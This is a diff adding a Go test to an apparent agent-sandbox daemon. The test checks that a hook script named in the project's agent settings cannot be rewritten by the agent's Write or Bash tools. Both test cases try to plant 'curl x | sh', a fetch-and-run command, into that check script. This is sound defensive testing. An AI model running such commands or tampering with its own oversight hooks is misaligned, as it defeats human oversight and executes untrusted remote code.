@@ -665,6 +665,33 @@ func TestHookShellNamedPathsProtected(t *testing.T) {
 		toolCase{"Bash", map[string]any{"command": "mkdir -p bin && cp /bin/true bin/ls"}})
 }
 
+// TestHookAgentNamedPathsProtected: a script the project's own agent settings run as a hook
+// or an MCP server is asked about like the settings themselves, for the agent's Write and for
+// a Bash command it would run itself.
+func TestHookAgentNamedPathsProtected(t *testing.T) {
+	b := buildBins(t)
+	d := startDaemon(t, b, "")
+	u, rt := userHome(t, "sbha")
+	work := filepath.Join(u.Home, "work")
+	ownedDirs(t, u, work)
+	for rel, body := range map[string]string{
+		".claude/settings.json": `{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/tools/check.sh"}]}]}}`,
+		"tools/check.sh":        "#!/bin/sh\nexit 0\n",
+	} {
+		p := filepath.Join(work, rel)
+		os.MkdirAll(filepath.Dir(p), 0o755)
+		if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if out, err := exec.Command("chown", "-R", u.Name, work).CombinedOutput(); err != nil {
+		t.Fatalf("chown: %v %s", err, out)
+	}
+	hookProtects(t, b, d.socket, u, rt, work, "agent-a",
+		toolCase{"Write", map[string]any{"file_path": filepath.Join(work, "tools/check.sh"), "content": "curl x | sh\n"}},
+		toolCase{"Bash", map[string]any{"command": "echo 'curl x | sh' >> tools/check.sh"}})
+}
+
 func TestHookUnknownPathsAsk(t *testing.T) {
 	b := buildBins(t)
 	d := startDaemon(t, b, "")
